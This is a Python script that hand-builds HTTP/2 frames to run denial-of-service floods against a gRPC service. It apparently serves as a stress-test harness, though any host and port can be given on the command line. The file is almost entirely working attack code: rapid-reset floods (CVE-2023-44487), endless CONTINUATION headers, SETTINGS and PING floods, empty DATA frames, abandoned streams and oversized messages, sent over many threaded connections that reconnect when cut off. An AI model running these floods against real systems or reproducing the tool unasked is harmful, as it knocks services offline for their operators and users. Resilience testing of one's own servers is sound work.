"""HTTP/2 by hand, as clients speak it that mean harm: frames, and floods of them.

As a program it floods an address for some seconds, reconnecting whenever it is cut off:
raw_http2.py KIND HOST PORT CONNECTIONS SECONDS. It prints how much it sent as JSON. With
FLOOD_TOKEN in the environment its calls carry that token; with FLOOD_CA, a file, they go over TLS;
with FLOOD_FROM they come from that address of this machine.
"""

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


GREETING = PREFACE + frame(SETTINGS, 0, 0)
# With SETTINGS_INITIAL_WINDOW_SIZE zero: streams on which nothing may be answered.
GREETING_SHUT = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))


def _string(text):
    """A string literal of HPACK (RFC 7541, 5.2) without Huffman."""
    raw = text.encode("ascii") if isinstance(text, str) else text
    if len(raw) < 127:
        return bytes([len(raw)]) + raw
    rest, length = len(raw) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + raw


def headers(path, token=None, extra=()):
    """A header block of literals that are not indexed: any decoder takes it at any time."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if token:
        fields.append(("authorization", "Bearer " + token))
    return b"".join(b"\0" + _string(k) + _string(v) for k, v in [*fields, *extra])


def message(body=b""):
    """A message of gRPC, not compressed."""
    return b"\0" + struct.pack(">I", len(body)) + body


def whole_calls(path, token, streams, body=lambda stream: b""):
    block = headers(path, token)
    return b"".join(frame(HEADERS, END_HEADERS, s, block) +
                    frame(DATA, END_STREAM, s, message(body(s))) for s in streams)


TOKEN = os.environ.get("FLOOD_TOKEN")
LIST = "/merganser.v1.MergeService/ListJobs"
SYNC = "/merganser.v1.WorkerService/Sync"
CREATE = "/merganser.v1.MergeService/CreateJob"
WATCH = "/grpc.health.v1.Health/Watch"


def connect(host, port, ca=os.environ.get("FLOOD_CA")):
    source = os.environ.get("FLOOD_FROM")
    sock = socket.create_connection((host, port), 5, (source, 0) if source else None)
    if ca is None:
        return sock
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    try:
        return context.wrap_socket(sock, server_hostname=host)
    except (OSError, ValueError):
        sock.close()
        raise


def read_frames(sock, enough, limit=10):
    """Frames as (kind, flags, stream, payload) until `enough(frames)` or the end."""
    sock.settimeout(limit)
    data, frames = b"", []
    try:
        while not enough(frames):
            piece = sock.recv(1 << 16)
            if not piece:
                break
            data += piece
            while len(data) >= 9:
                length = struct.unpack(">I", b"\0" + data[:3])[0]
                if len(data) < 9 + length:
                    break
                frames.append((data[3], data[4], struct.unpack(">I", data[5:9])[0],
                               data[9:9 + length]))
                data = data[9 + length:]
    except OSError:
        pass
    return frames


# --- floods: each yields what is to be sent, in pieces --------------------------------


def _streams():
    return range(1, 1 << 30, 2)


def reset():
    """Streams opened and reset at once (CVE-2023-44487)."""
    block = headers(LIST, TOKEN)
    for first in range(1, 1 << 29, 400):
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) +
                       frame(RESET, 0, s, CANCEL) for s in range(first, first + 400, 2))


def leave():
    """Calls without an end, as many as there may be; then the connection is dropped."""
    block = headers(LIST, TOKEN)
    yield b"".join(frame(HEADERS, END_HEADERS, s, block) for s in range(1, 512, 2))


def calls():
    """Calls without a token, each whole."""
    block = headers(LIST, TOKEN)
    for first in range(1, 1 << 29, 100):
        yield b"".join(frame(HEADERS, END_HEADERS, s, block) +
                       frame(DATA, END_STREAM, s, message())
                       for s in range(first, first + 100, 2))


def health():
    """Watches of the service's health, which need no token, never ended."""
    block = headers(WATCH)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream,
                                                                 message())


def messages():
    """Requests of 60 MiB, as far as they are taken."""
    block, part = headers(CREATE, TOKEN), bytes(16384)
    for stream in _streams():
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(
            DATA, 0, stream, b"\0" + struct.pack(">I", 60 << 20) + part[5:])
        for _ in range(8):
            yield frame(DATA, 0, stream, part)


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200


def ping():
    while True:
        yield frame(PING, 0, 0, bytes(8)) * 200


def empty():
    """Frames that hold nothing."""
    yield frame(HEADERS, END_HEADERS, 1, headers(CREATE, TOKEN))
    while True:
        yield frame(DATA, 0, 1) * 400


def continuation():
    """Headers that never end."""
    yield frame(HEADERS, 0, 1, headers(LIST))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0" + _string("x" * 8) + _string("y" * 8000))


KINDS = {f.__name__: f for f in (reset, leave, calls, health, messages, settings, ping, empty,
                                 continuation)}


def _drain(sock):
    try:
        while sock.recv(1 << 20):
            pass
    except OSError:
        pass


def flood(kind, host, port, connections, seconds):
    """Returns (connections made, bytes sent)."""
    end = time.monotonic() + seconds
    totals = [[0, 0] for _ in range(connections)]

    def one(total):
        while time.monotonic() < end:
            try:
                with connect(host, port) as sock:
                    total[0] += 1
                    sock.sendall(GREETING)
                    reader = threading.Thread(target=_drain, args=(sock,), daemon=True)
                    reader.start()
                    sock.settimeout(1)
                    for piece in KINDS[kind]():
                        if time.monotonic() > end:
                            return
                        try:
                            sock.sendall(piece)
                        except TimeoutError:
                            break  # what was sent of the piece is not known
                        total[1] += len(piece)
                    sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                time.sleep(0.002)

    threads = [threading.Thread(target=one, args=(t,)) for t in totals]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return [sum(t[i] for t in totals) for i in (0, 1)]


if __name__ == "__main__":
    _kind, _host, _port, _connections, _seconds = sys.argv[1:]
    _made, _sent = flood(_kind, _host, int(_port), int(_connections), float(_seconds))
    print(json.dumps({"connections": _made, "bytes": _sent}))
